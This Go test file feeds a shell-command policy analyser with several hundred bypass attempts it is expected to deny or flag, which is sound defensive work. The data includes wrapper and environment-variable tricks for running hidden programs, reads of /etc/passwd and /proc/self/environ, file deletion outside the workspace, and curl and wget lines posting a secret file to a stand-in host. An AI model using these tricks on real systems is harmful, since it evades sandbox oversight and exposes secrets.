package shellparse

import (
	"strings"
	"testing"
)

// kind is one group of commands that are judged alike.
type kind struct {
	name   string
	policy casePolicy
	want   int
	texts  string // one a line; \n stands for a newline
}

func kinds() []kind {
	denied := casePolicy{Default: "allow", RawDeny: []string{"pwn *"}}
	allowed := func(rules ...string) casePolicy { return casePolicy{Default: "ask", RawAllow: rules} }
	outside := casePolicy{Default: "allow", Workspace: "@W@", WriteOutside: "deny", ReadOutside: "ask"}
	return []kind{
		{"wrappers show what they run", denied, deny, `
env -u X pwn
env -iu X A=1 pwn a
env -C / pwn
env --chdir=/ pwn
env -S pwn
env -S'pwn a'
env -i -S "A=1 pwn"
command pwn
command -p pwn
exec pwn
exec -c -a x pwn
builtin command pwn
nohup -- pwn
nice -5 pwn
nice --adjustment=5 pwn
timeout -v 5 pwn
timeout -k1 -sKILL 5s pwn
timeout --kill-a=3 5 pwn
stdbuf -oL -eL pwn
setsid --fork pwn
ionice -c3 pwn
ionice -c 2 -n 0 pwn
chrt -i 0 pwn
taskset -c 0,1 pwn
prlimit -n100 pwn
setpriv --no-new-privs pwn
setarch x86_64 -R pwn
unshare -rm pwn
nsenter -t 1 -m pwn
chroot / pwn
chroot --userspec=a:b / pwn
runuser -u x pwn
runuser -l x -c pwn
su -c pwn
su x -c 'pwn a'
su - x -c pwn
sudo pwn
sudo -u x -- pwn
sudo -nE A=1 pwn
doas -u x pwn
pkexec pwn
flock /tmp/x -c pwn
flock -n 9 pwn
flock -w 5 /tmp/x pwn
script -qc pwn /dev/null
script -c 'pwn a' x
watch pwn
watch -n1 'pwn a'
watch -x pwn
xargs -n1 pwn
xargs -I{} pwn {}
xargs -a f -0 -P4 pwn
xargs sh -c 'pwn "$@"' _
find . -execdir pwn {} +
find . -name x -o -exec pwn \;
find . -okdir pwn \;
busybox pwn
busybox env pwn
toybox nice pwn
time -p pwn
strace -f -o x pwn
strace -e trace=open pwn
ltrace pwn
gdb --args pwn a
gdb -batch -ex run --args pwn
perf stat pwn
perf record -o x pwn
parallel pwn ::: a b
systemd-run --user pwn
caffeinate -i pwn
fakeroot pwn
xvfb-run -a pwn
unbuffer pwn
chronic pwn
numactl -N 0 pwn
faketime yesterday pwn
proxychains pwn
rlwrap pwn
ssh-agent pwn
ssh-agent sh -c pwn
dbus-run-session -- pwn
hyperfine 'pwn'
torsocks pwn
eatmydata pwn
bash -c 'exec pwn'
bash -lc pwn
bash --norc -c pwn
bash -euxo pipefail -c pwn
sh -ec pwn
dash -c pwn
zsh -c pwn
bash -c 'bash -c "bash -c pwn"'
bash <<< 'pwn a'
bash -s <<< pwn
sh <<'E'\npwn\nE
eval "eval pwn"
eval 'p''wn'
trap 'pwn' EXIT
trap "pwn" 0 1 2
coproc X { pwn; }
bundle exec pwn
poetry run pwn
uv run pwn
pnpm exec pwn
git submodule foreach pwn
git bisect run pwn
git rebase -x pwn HEAD~1
git -c alias.x='!pwn' x
git -c core.pager=pwn log
git ls-remote --upload-pack=pwn .
git clone -u pwn . x
git difftool -x pwn
git filter-branch --tree-filter pwn
git grep -O'pwn' x | cat; pwn
rg --pre pwn x
rg --pre=pwn x
rg --hostname-bin=pwn x
sort --compress-program=pwn f
sort --compress-prog pwn f
tar cf x --use-compress-program=pwn f
tar --to-command=pwn -xf x
tar -I pwn -xf x
rsync -e pwn a h:b
rsync --rsh='pwn x' a h:b
scp -S pwn a h:b
ssh -o ProxyCommand=pwn h
ssh -oProxyCommand='pwn x' h
man -P pwn ls
make CC=pwn
make --eval 'x:;pwn'
sed '1e pwn' f
sed -n 's/x/pwn/e' f
awk 'BEGIN{system("pwn")}'
awk 'BEGIN{print 1 | "pwn"}'
awk '{"pwn" | getline x}'
vim -c '!pwn' f
vim -c ':!pwn' f
npx -c pwn
npm -c pwn exec
go vet -vettool=pwn ./...
go test -exec pwn ./...
go build -toolexec=pwn .
gdb -batch -ex '!pwn'
gdb -batch -ex 'shell pwn'
split --filter=pwn f
nc -e pwn h 1
socat - EXEC:pwn; pwn
`},
		{"an allow rule does not cover what a flag runs", allowed("git *", "tar *", "sort *", "rg *", "sed *", "awk *", "find *", "man *", "make *", "go *", "rsync *", "ssh *", "curl *", "wget *", "zip *", "unzip *", "vim *", "ed *", "diff *", "file *", "fd *", "less *", "gcc *", "npm *", "docker *", "xargs *", "env *", "sudo *", "time *", "bash *", "tee *", "cp *", "base64 *", "date *", "tree *", "split *", "iconv *", "xxd *", "uniq *", "patch *", "gpg *"), ask, `
git -c x.y=z status
git -ccore.pager=x log
git --exec-path=/x status
git --git-dir=/x status
git --work-tree /x status
git --config-env=a.b=C status
git -p log
git --paginate log
git diff --ext-diff
git diff --textconv
git diff --ext
git diff --output=/tmp/x
git diff --output /x
git diff --no-index /etc/passwd f
git log --show-signature
git log --format=%GK
git log --pretty='%h %G?'
git show --textconv x
git blame --contents /etc/passwd f
git grep --open-files-in-pager=x y
git grep -Ox y
git grep --no-index x /etc
git cat-file --textconv HEAD:f
git cat-file --filters HEAD:f
git ls-remote ext::pwn
git fetch --upload-pack=x
git fetch --upload-p x o
git push --receive-pack=x
git pull --upload-pack x
git clone --config core.x=y . z
git clone -c core.x=y . z
git clone --template=x . z
git init --template=x
git init --templ x
git archive --remote=x HEAD
git submodule update --init
git difftool
git mergetool
git filter-branch --tree-filter x
git bisect run x
git rebase -i HEAD~2
git rebase --exec=x HEAD
git commit -e
git commit -S
git tag -s x
git tag -v x
git verify-commit x
git add -p
git add -i
git credential fill
git config alias.x '!y'
git config --global core.editor x
git config core.hooksPath x
git config --add core.x y
git config --unset a.b
git foo
git instaweb
git send-email x
git maintenance run
git daemon
git -C /tmp status
git -C .. status
git diff *
git log $(x)
git $(cat list)
sort $(cat list) f
rg $(cat list)
find $(cat list)
find . $(cat list)
sed $(cat list) f
awk "$(cat list)" f
tar -xf x --checkpoint-action=exec=y
tar --checkpoint-act=x -cf y z
tar -cf x -Iy z
tar cIf y x z
tar -cf x -T list
tar -F x -cf y z
tar --new-volume-script=x -cf y z
tar -cf h:x y
tar --rsh-command=x -cf h:y z
tar xPf y
tar --transform='flags=x;s/a/b/' -cf x y
tar cf x *
sort --files0-from=x
sort --compress-program x f
sort -T /x f
rg -z x
rg --search-zip x
rg -nz x
rg --pr x y
sed -f x f
sed --file=x f
sed -n 1p -f x
sed 1ex f
sed 's/a/b/e' f
sed 's/a/b/ge' f
sed '1{e x\n}' f
awk -f x f
awk -l x 'y'
awk '@load "x"'
awk 'BEGIN{system("x")}'
awk 'BEGIN { "x" | getline }'
awk '{ print | "x" }'
awk '{ printf "a" | "x" }'
awk '{ print > $1 }'
find . -delete
find . -exec x \;
find . -fprint /x
find . -files0-from x
find . -name x -foo
man -P x ls
man -Px ls
man --pager=x ls
man -H ls
man --html=x ls
make SHELL=x
make CC=x
make -f x
make --file=x
make -I x
make --eval=x
make -Cx -f y
go test -exec x ./...
go vet -vettool=x
go vet -vettool x
go build -toolexec x
go build -overlay x
go build -modfile=x
go build -ldflags '-linkmode external -extld x'
go run -exec x .
go env -w X=y
go tool x
rsync -e x a b:c
rsync --rsh x a b:c
rsync -ave x a b:c
rsync --rsync-path=x a b:c
rsync --rs x a b:c
ssh -o ProxyCommand=x h
ssh -F x h
ssh -oPermitLocalCommand=yes h
ssh h x
curl -K x
curl --config x
curl --conf x u
curl -o /x http://h
curl --unix-socket x http://h
wget -i x
wget -e x=y http://h
wget --execute=x http://h
wget --use-askpass=x http://h
wget --config=x http://h
zip -T x y
zip -TT x y z
zip x y -T --unzip-command x
unzip x -d /y
vim -c x f
vim -S x
vim -u x f
ed f
ed -s f
diff --foo a /etc/passwd
file -m x y
file -C -m x
fd -x y
fd -X y
fd --exec y
fd --exec-batch=y
gcc -wrapper x y.c
gcc -Bx y.c
gcc -B x y.c
gcc -fplugin=x y.c
gcc -specs=x y.c
npm --script-shell=x test
npm test --script-shell x
npm --prefix /x test
npm exec -c x
xargs x
xargs -I{} {} 
env x
env -S x
sudo x
time x
bash -c x
bash x
bash -s
bash
date -s x
tree -o /x
split --filter=x f
iconv -o /x f
uniq a /x
patch -o /x a
patch -d /x
gpg --options x
gpg -o /x y
base64 --output=/x f
`},
		{"an environment that changes what runs", allowed("git *", "ls *", "make *", "go *", "python3 *", "node *", "npm *", "man *", "bash *", "env *", "export *", "declare *", "read *", "less *", "tar *", "ssh *", "perl *", "gcc *", "cargo *", "unset *"), ask, `
PATH=/x ls
PATH=. ls
PATH=x; ls
export PATH=x; ls
declare PATH=x; ls
declare -gx PATH=x; ls
typeset -x PATH=x; ls
readonly PATH=x; ls
local PATH=x; ls
unset PATH; ls
read PATH; ls
read -r x PATH; ls
mapfile PATH; ls
printf -v PATH x; ls
for PATH in x; do ls; done
getopts a PATH; ls
: ${PATH:=x}; PATH=$x; ls
PATH+=:x; ls
env PATH=x ls
env -u PATH ls
LD_PRELOAD=x ls
LD_LIBRARY_PATH=x ls
DYLD_INSERT_LIBRARIES=x ls
BASH_ENV=x bash -c ls
ENV=./x bash -c ls
IFS=x ls
PS4='$(id)' bash -xc ls
PROMPT_COMMAND=x; ls
SHELLOPTS=xtrace bash -c ls
BASHOPTS=extdebug bash -c ls
export BASH_ENV=x; bash -c ls
GIT_DIR=x git status
GIT_SSH=x git fetch
GIT_SSH_COMMAND=x git fetch
GIT_EXTERNAL_DIFF=x git diff
GIT_EDITOR=x git commit
GIT_PAGER=x git log
GIT_ASKPASS=x git fetch
GIT_CONFIG_GLOBAL=x git status
GIT_CONFIG_COUNT=1 git status
GIT_CONFIG=x git status
GIT_EXEC_PATH=x git status
GIT_TEMPLATE_DIR=x git init
GIT_WORK_TREE=x git status
GIT_INDEX_FILE=x git status
GIT_OBJECT_DIRECTORY=x git status
GIT_TRACE=/x git status
PAGER=x git log
EDITOR=x git commit
VISUAL=x git commit
HOME=x git status
XDG_CONFIG_HOME=x git status
PYTHONPATH=x python3 y
PYTHONSTARTUP=x python3
PYTHONHOME=x python3 y
NODE_OPTIONS=x node y
NODE_PATH=x node y
NPM_CONFIG_SCRIPT_SHELL=x npm test
npm_config_script_shell=x npm test
PERL5LIB=x perl y
PERL5OPT=x perl y
RUBYOPT=x ls; ls
MANPAGER=x man ls
LESSOPEN=x less f
TAR_OPTIONS=x tar tf y
GOFLAGS=-toolexec=x go vet
GOENV=x go vet
CC=x go build
CGO_CFLAGS=x CC=y go build
MAKEFLAGS=x make
CC=x make
RUSTC_WRAPPER=x cargo check
CARGO_HOME=x cargo check
SSH_ASKPASS=x ssh h
GCONV_PATH=x ls
http_proxy=x git fetch
ALL_PROXY=x git fetch
GCC_EXEC_PREFIX=x gcc y.c
export GIT_DIR=x; git status
set -a; GIT_DIR=x; git status
env GIT_DIR=x git status
hash -p /x ls; ls
alias ls=x; ls
BASH_ALIASES[ls]=x; ls
enable -f x ls; ls
function ls { x; }; ls
ls() { x; }; ls
unset -f ls; declare -n r=PATH; r=x; ls
. ./x; ls
source x; ls
eval "$x"; ls
command_not_found_handle() { x; }; ls
shopt -s expand_aliases; alias ls=x\nls
`},
		{"writes outside", outside, deny, `
echo x > @O@/f
echo x >> @O@/f
echo x >| @O@/f
echo x &>> @O@/f
echo x <> @O@/f
cp f @O@
cp -t @O@ f
cp -r src @O@/d
cp -at @O@ f
mv f @O@/f
mv -t @O@ f
ln -s f @O@/l
ln -sf f @O@/l
install -m 644 f @O@/f
install -D f @O@/a/b
install -d @O@/d
install -t @O@ f
touch @O@/f
touch -d now @O@/f
mkdir @O@/d
mkfifo @O@/p
rm @O@/secret
rm -r @O@/e
rmdir @O@/e
chown 0 @O@/secret
chgrp 0 @O@/secret
chmod +x @O@/secret
truncate -s 0 @O@/secret
tee -a @O@/f
tee f @O@/f
dd if=f of=@O@/f
dd of=@O@/f
sort -o@O@/f f
sort --output=@O@/f f
sort -uo @O@/f f
shuf --output=@O@/f f
uniq f @O@/f
split f @O@/x
csplit -f@O@/x f 1
xxd -r f @O@/f
base64 -o@O@/f f
tar cf @O@/x f
tar -czf@O@/x f
tar --file=@O@/x -c f
tar -xf x -C @O@
tar -C @O@ -xf x
unzip x -d @O@
zip @O@/x.zip f
zip -r @O@/x src
curl -o @O@/f http://h/x
curl --output @O@/f http://h/x
curl -O --output-dir @O@ http://h/x
curl -D @O@/h http://h/x
curl -c @O@/jar http://h/x
wget -O @O@/f http://h
wget -P @O@ http://h/x
wget -o @O@/log http://h
wget --output-document=@O@/f http://h
rsync f @O@/
rsync -r src/ @O@/d
scp h:x @O@/f
git diff --output=@O@/x
git format-patch -o @O@ HEAD~1
git archive -o @O@/x.tar HEAD
git init @O@/n
git clone . @O@/c
git worktree add @O@/w
git bundle create @O@/b HEAD
git -C @O@ init
sed -i s/a/b/ @O@/secret
sed -i.bak s/a/b/ @O@/secret
sed --in-place=.b s/a/b/ @O@/secret
sed -ni p @O@/secret
sed -n 'w @O@/f' f
sed 's/a/b/w @O@/f' f
perl -pi -e s/a/b/ @O@/secret
perl -i -pe s/a/b/ @O@/secret
awk '{print > "@O@/f"}' f
awk '{print >> "@O@/f"}' f
find @O@ -delete
find . -fprint @O@/f
find . -fprintf @O@/f %p
find @O@ -name x -exec rm {} \;
find @O@ -type f -exec touch {} +
gcc -o @O@/x x.c
gcc -o@O@/x x.c
go build -o @O@/x .
go test -coverprofile=@O@/c ./...
python3 -m venv @O@/v
sqlite3 @O@/db 'select 1'
openssl rand -out @O@/f 8
openssl genrsa -out @O@/k 2048
ssh-keygen -f @O@/k
gpg -o @O@/f -d x
gzip @O@/secret
bzip2 @O@/secret
xz @O@/secret
patch @O@/secret x
patch -d @O@ -i x
mktemp -p @O@
mktemp -d @O@/XXXX
mktemp --tmpdir=@O@ XXX
fallocate -l 1 @O@/f
shred @O@/secret
unlink @O@/secret
strace -o @O@/x ls
script @O@/log -c ls
time -o @O@/t ls; env time -o @O@/t ls
tree -o @O@/x
iconv -o @O@/f f
node x.js @O@/out
foo --out=@O@/x
foo -o @O@/x
make -C @O@
make DESTDIR=@O@ install
pip install --target @O@/p x
npm --prefix @O@ install
cargo build --target-dir @O@/t
tsc --outDir @O@/o
ffmpeg -i f @O@/o.mp4
psql -o @O@/f -c 'select 1'
cd @O@; touch f
cd @O@ && touch f
cd @O@/e/..; touch f
pushd @O@; touch f
(cd @O@; touch f)
cd ..; cd O; touch f
cd src; cd ../..; touch O/f
env -C @O@ touch f
cd / && touch @O@/f
x=@O@; touch $x/f
x=@O@; cd $x; touch f
for d in @O@; do touch $d/f; done
f() { touch "$1"; }; f @O@/f
bash -c 'touch @O@/f'
eval 'touch @O@/f'
echo @O@/f | xargs touch; touch @O@/f
touch @W@/../O/f
touch link/f
touch ./link/../O/f; touch link/e/f
ln -s @O@ l2; touch l2/f
ln -s @O@/secret l2; echo x > l2
mv link l3; touch l3/f
cp -P link l4; touch link/f
touch ~/f
echo x > ~/.bashrc
cd; touch f
cd ~; touch f
cat > /proc/self/cwd/../O/f
cat > /proc/self/root@O@/f
exec 3>@O@/f
exec >@O@/f
while read x; do echo $x; done > @O@/f
{ echo a; } >> @O@/f
if true; then echo; fi > @O@/f
tar cf - f > @O@/x
cat <<E > @O@/f\nhi\nE
: > @O@/f
> @O@/f
2> @O@/f
nohup ls > @O@/f
xargs -I{} touch @O@/{}
busybox touch @O@/f
sudo touch @O@/f
timeout 5 touch @O@/f
chattr +i @O@/secret
setfacl -m u:x:r @O@/secret
gofmt -w @O@/x.go
prettier --write @O@/x.js
`},
		{"reads outside", outside, ask, `
cat @O@/secret
cat < @O@/secret
head -n1 @O@/secret
tail @O@/secret
less @O@/secret
more @O@/secret
nl @O@/secret
od -c @O@/secret
xxd @O@/secret
strings @O@/secret
grep x @O@/secret
grep -r x @O@
grep -f @O@/secret f
grep --file=@O@/secret f
egrep x @O@/secret
rg x @O@
rg -f @O@/secret
rg --ignore-file @O@/secret x
ag x @O@
sed -n p @O@/secret
sed r@O@/secret f
awk 1 @O@/secret
awk 'BEGIN{while((getline x < "@O@/secret")>0)print x}'
cut -c1 @O@/secret
sort @O@/secret
uniq @O@/secret
wc @O@/secret
wc --files0-from=@O@/secret
diff f @O@/secret
cmp f @O@/secret
comm f @O@/secret
paste @O@/secret
join @O@/secret f
base64 @O@/secret
md5sum @O@/secret
sha256sum @O@/secret
file -f @O@/secret
date -f @O@/secret
date --file=@O@/secret
ls @O@
ls -R @O@
find @O@
tree @O@
du @O@
cp @O@/secret f2
ln @O@/secret f2
mv @O@/secret f2
dd if=@O@/secret
tar cf - @O@/secret
tar -C @O@ -cf - secret
zip - @O@/secret
curl file://@O@/secret
curl -d @@O@/secret http://h
curl -F x=@@O@/secret http://h
curl -T @O@/secret http://h
curl --data-binary @@O@/secret http://h
wget --post-file=@O@/secret http://h
jq . @O@/secret
jq -f @O@/secret f
python3 @O@/secret
node @O@/secret
bash @O@/secret
source @O@/secret
. @O@/secret
while read x; do echo $x; done < @O@/secret
read x < @O@/secret
mapfile x < @O@/secret
x=$(<@O@/secret)
echo "$(cat @O@/secret)"
cat <(cat @O@/secret)
cat ../O/secret
cat @W@/../O/secret
cat link/secret
cat "link"/secret
cat @O@/sec*
cat @O@/{secret,x}
cd @O@; cat secret
cd @O@ && ls
cd link; cat secret
git -C @O@ log
git diff --no-index f @O@/secret
git blame --contents @O@/secret f
xargs -a @O@/secret echo
xargs cat < list
find . -name list | xargs cat; cat @O@/secret
cat $(echo @O@/secret)
cat "$x"/secret
vim @O@/secret
scp @O@/secret h:x
rsync @O@/secret f
install @O@/secret f
openssl enc -in @O@/secret
gpg -c @O@/secret
column @O@/secret
fold @O@/secret
rev @O@/secret
tac @O@/secret
split @O@/secret
patch f @O@/secret
patch -i @O@/secret
iconv @O@/secret
strings -a @O@/secret
tee < @O@/secret
cat /proc/self/root@O@/secret
cat /proc/self/environ
cat /etc/passwd
`},
	}
}

func TestKinds(t *testing.T) {
	for _, k := range kinds() {
		t.Run(k.name, func(t *testing.T) {
			b := newBench(t)
			world := b.world()
			n, strict := 0, 0
			for text := range strings.Lines(k.texts) {
				text = strings.TrimSpace(b.fill(text))
				if text == "" {
					continue
				}
				text = strings.ReplaceAll(text, `\n`, "\n")
				n++
				a := Analyze(t.Context(), text, "bash", world)
				got, _ := judge{k.policy, b}.all(a)
				if got < k.want {
					t.Errorf("%s, want %s: %q\n%s", verdictName(got), verdictName(k.want), text, dump(a))
				}
				if got > k.want {
					strict++
				}
			}
			t.Logf("%d commands, %d stricter than needed", n, strict)
		})
	}
}
